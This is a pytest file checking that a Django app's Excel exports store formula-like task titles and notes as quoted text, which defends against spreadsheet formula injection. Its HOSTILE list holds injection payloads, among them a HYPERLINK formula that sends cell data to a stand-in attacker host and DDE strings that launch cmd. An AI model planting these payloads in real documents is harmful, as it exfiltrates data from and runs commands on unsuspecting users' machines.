"""Every workbook the system writes keeps user text as text: a title that opens like a
formula (=, +, -, @) is never a live formula (OWASP formula injection)."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from cchc.documents import consolidated, xlsx
from cchc.documents.plan import plan_xlsx
from cchc.plans import progress as plan_progress
from cchc.plans import services as plan_services
from cchc.plans.exports import plan_export_data
from cchc.plans.models import Area
from cchc.reporting import consolidation
from tests.test_reporting_world import make_period
from tests.web_helpers import on_day

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile(world):
    """Overdue tasks of the world's plan titled like formulas (due 01/06/2026), each with
    a note that opens like one (the consolidated report cites it as the reason)."""
    area = Area.objects.get(code=6)
    for n, title in enumerate(HOSTILE, start=1):
        with on_day(world.issued_on):
            task = plan_services.task_create(
                actor=None,
                plan=world.plan,
                area=area,
                code=f"6.{n}",
                title=title,
                lead_unit=world.units["CTC"],
                due_date=datetime.date(2026, 6, 1),
                deliverable=title,
            )
        plan_progress.task_update_post(
            actor=world.users["focal_b"],
            task=task,
            note=title,
            reported_on=datetime.date(2026, 6, 5),
        )
    return world


def text_cells(workbook_bytes: bytes):
    """Every cell of every sheet whose value is one of the hostile texts."""
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE):
                    yield cell


def assert_all_text(workbook_bytes: bytes, at_least: int) -> None:
    cells = list(text_cells(workbook_bytes))
    assert len(cells) >= at_least
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    formulas = [
        c.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def test_the_plan_workbook_stores_formula_like_titles_as_text(hostile):
    data = plan_export_data(user=hostile.users["office"], plan=hostile.plan, today=hostile.today)
    content = plan_xlsx(data)
    assert_all_text(content, at_least=len(HOSTILE))
    starts = [c for c in text_cells(content) if c.value in HOSTILE]
    assert starts and all(c.quotePrefix for c in starts)


def test_the_task_export_stores_formula_like_titles_as_text(hostile, client):
    client.force_login(hostile.users["office"])
    response = client.get(reverse("plans:task-export"), {"plan": hostile.plan.pk})
    content = b"".join(response.streaming_content)
    assert_all_text(content, at_least=len(HOSTILE))
    starts = [c for c in text_cells(content) if c.value in HOSTILE]
    assert starts and all(c.quotePrefix for c in starts)


def test_the_consolidated_workbook_stores_formula_like_titles_as_text(hostile, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    period = make_period(hostile)
    payload = consolidation.document_data(period, None, today=datetime.date(2026, 6, 21))
    content = consolidated.render(payload, "xlsx")
    assert_all_text(content, at_least=2 * len(HOSTILE))
    notes = [c for c in text_cells(content) if c.value in HOSTILE]
    assert len(notes) >= len(HOSTILE) and all(c.quotePrefix for c in notes)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\x01=1+1"])
def test_the_one_writer_marks_every_formula_start_with_the_quote_prefix(text):
    out = io.BytesIO()
    with xlsx.Workbook(out) as book:
        book.sheet("Thử", [xlsx.Column("A", 10), xlsx.Column("B", 10)]).append([text, "a=b"])
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A1"].value == text.replace("\x01", "")
    assert not sheet["B1"].quotePrefix
